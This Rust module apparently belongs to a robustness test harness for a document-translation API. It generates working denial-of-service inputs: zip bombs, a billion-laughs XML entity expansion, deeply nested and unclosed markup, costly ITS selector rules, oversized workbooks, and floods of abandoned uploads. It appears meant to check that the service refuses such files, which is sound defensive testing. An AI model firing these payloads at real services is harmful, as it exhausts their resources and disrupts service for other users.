//! What can be done with documents.

use std::io::{Cursor, Write};
use std::time::Duration;

use anyhow::{Result, bail};
use futures_util::future::join_all;
use serde_json::Value;
use tokio::io::AsyncWriteExt;
use tokio::time::{Instant, sleep};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use super::Target;
use crate::bystander::Account;
use crate::wire;

/// How often to ask what has become of a document.
const POLL: Duration = Duration::from_millis(250);

/// How long a document may take: attacks are refused, and what is translated all the same is small.
const PATIENCE: Duration = Duration::from_secs(300);

/// Where the text of an archive is, by format, and the other parts without which it would not be looked at.
const ARCHIVES: [(&str, &str); 4] = [
    ("docx", "word/document.xml"),
    ("pptx", "ppt/slides/slide1.xml"),
    ("xlsx", "xl/sharedStrings.xml"),
    ("idml", "Stories/Story_u1.xml"),
];

const WORD: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

/// An archive with this content as its main part, and what leads there.
fn archive(format: &str, part: &str, content: &[u8]) -> Result<Vec<u8>> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().large_file(false);
    let mut add = |name: &str, content: &[u8]| -> Result<()> {
        archive.start_file(name, options)?;
        Ok(archive.write_all(content)?)
    };
    if format == "idml" {
        add("mimetype", b"application/vnd.adobe.indesign-idml-package")?;
        add(
            "designmap.xml",
            format!("<Document><idPkg:Story xmlns:idPkg=\"http://ns.adobe.com/AdobeInDesign/idml/1.0/packaging\" src=\"{part}\"/></Document>").as_bytes(),
        )?;
    } else {
        add(
            "[Content_Types].xml",
            b"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/></Types>",
        )?;
        add(
            "_rels/.rels",
            format!("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"{part}\"/></Relationships>").as_bytes(),
        )?;
    }
    add(part, content)?;
    Ok(archive.finish()?.into_inner())
}

/// A document of a word processor with one paragraph.
pub(crate) fn word_document(text: &str) -> Result<Vec<u8>> {
    let body = format!("<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body>");
    let document = format!("<w:document xmlns:w=\"{WORD}\">{body}</w:document>");
    archive("docx", "word/document.xml", document.as_bytes())
}

/// Sends the files, some at a time, and waits until none of those that were taken is at work any more.
async fn send(target: &Target, files: Vec<(String, Vec<u8>)>) -> Result<()> {
    let account = target.account()?;
    for group in files.chunks(8) {
        let sent = group
            .iter()
            .map(|(name, content)| account.upload(name, content.clone()));
        for answer in join_all(sent).await {
            match answer {
                Ok(handle) => until_ended(&account, &handle).await?,
                // What is refused is done with.
                Err(error) => super::check_refusal(&error)?,
            }
        }
    }
    Ok(())
}

/// Waits until a document is translated or has failed.
pub(super) async fn until_ended(account: &Account, handle: &Value) -> Result<()> {
    let path = format!(
        "/v2/document/{}",
        handle["document_id"].as_str().unwrap_or_default()
    );
    let ended = async {
        loop {
            let status = account.post(&path, handle).await?;
            if status["status"] == "done" || status["status"] == "error" {
                return anyhow::Ok(());
            }
            sleep(POLL).await;
        }
    };
    match tokio::time::timeout(PATIENCE, ended).await {
        Ok(result) => result,
        Err(_) => bail!("a document is still at work"),
    }
}

pub(super) async fn zip_bombs(target: Target) -> Result<()> {
    let mut files = Vec::new();
    for (format, part) in ARCHIVES {
        // Zeros, and text that would be a unit each.
        let zeros = vec![0; target.scale.of(200, 250) << 20];
        files.push((format!("zeros.{format}"), archive(format, part, &zeros)?));
        drop(zeros);
        let paragraph = "<w:p><w:r><w:t>The house is green.</w:t></w:r></w:p>";
        let body = paragraph.repeat((target.scale.of(20, 200) << 20) / paragraph.len());
        let text = format!("<w:document xmlns:w=\"{WORD}\"><w:body>{body}</w:body></w:document>");
        files.push((
            format!("text.{format}"),
            archive(format, part, text.as_bytes())?,
        ));
    }
    send(&target, files).await
}

pub(super) async fn xml_bombs(target: Target) -> Result<()> {
    let mut entities = String::from("<!DOCTYPE a [<!ENTITY x0 \"ha\">");
    for level in 1..30 {
        let previous = level - 1;
        entities.push_str(&format!(
            "<!ENTITY x{level} \"&x{previous};&x{previous};\">"
        ));
    }
    let laughs = format!("<?xml version=\"1.0\"?>{entities}]><a>&x29;</a>");
    let depth = target.scale.of(100_000, 1_000_000);
    let deep = format!("{}text{}", "<a>".repeat(depth), "</a>".repeat(depth));
    let unclosed = "<a b='".repeat(depth / 2);
    let comments = "<!-".repeat(depth);
    let mut files = Vec::new();
    for (number, text) in [laughs, deep, unclosed, comments].iter().enumerate() {
        for format in [
            "xml",
            "html",
            "xliff",
            "dita",
            "mif",
            "srt",
            "vtt",
            "ass",
            "md",
            "po",
            "properties",
            "arb",
            "strings",
            "xcstrings",
            "csv",
            "tsv",
            "yaml",
            "resx",
            "rtf",
            "json",
            "txt",
        ] {
            files.push((format!("{number}.{format}"), text.clone().into_bytes()));
        }
        for (format, part) in ARCHIVES {
            files.push((
                format!("{number}.{format}"),
                archive(format, part, text.as_bytes())?,
            ));
        }
    }
    send(&target, files).await
}

pub(super) async fn selectors(target: Target) -> Result<()> {
    let names: String = (0..target.scale.of(2_000, 20_000))
        .map(|n| format!("//a{n} | "))
        .collect();
    let rule = format!("<its:translateRule selector=\"{names}//z\" translate=\"yes\"/>");
    let bytes = 7_000_000;
    let rules = rule.repeat(bytes / 2 / rule.len());
    let elements = "<b c=\"d\">text of it</b>".repeat(bytes / 2 / 23);
    let file = format!(
        "<r xmlns:its=\"http://www.w3.org/2005/11/its\"><its:rules version=\"2.0\">{rules}</its:rules>{elements}</r>"
    );
    let files = (0..3).map(|number| (format!("{number}.xml"), file.clone().into_bytes()));
    send(&target, files.collect()).await
}

/// A workbook with so many texts.
fn workbook(texts: usize) -> Result<Vec<u8>> {
    let rows: String = (0..texts)
        .map(|n| format!("<si><t>The house number {n} is green.</t></si>"))
        .collect();
    let strings = format!(
        "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">{rows}</sst>"
    );
    // Not a whole workbook: the filter takes it apart before it can know.
    archive("xlsx", "xl/sharedStrings.xml", strings.as_bytes())
}

pub(super) async fn workbooks(target: Target) -> Result<()> {
    let file = workbook(target.scale.of(30_000, 100_000))?;
    let files = (0..target.scale.of(16, 64)).map(|number| (format!("{number}.xlsx"), file.clone()));
    send(&target, files.collect()).await
}

/// Sends whole files and goes away before they are read.
pub(super) async fn abandoned(target: Target) -> Result<()> {
    let file = workbook(100_000)?;
    let fields = "--b\r\nContent-Disposition: form-data; name=\"target_lang\"\r\n\r\nES\r\n";
    let part = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.xlsx\"\r\n\r\n";
    let body = [fields.as_bytes(), part.as_bytes(), &file, b"\r\n--b--\r\n"].concat();
    let kind = "multipart/form-data; boundary=b";
    let upload = wire::request("/v2/document", &target.key, kind, &body);
    let until = Instant::now() + Duration::from_secs(target.scale.of(5, 30));
    let loops = (0..16).map(|_| async {
        while Instant::now() < until {
            if let Ok(mut stream) = wire::connect(target.interface).await {
                // The server may have refused it by now.
                let _ = stream.write_all(&upload).await;
                sleep(Duration::from_millis(50)).await;
            }
        }
    });
    join_all(loops).await;
    Ok(())
}
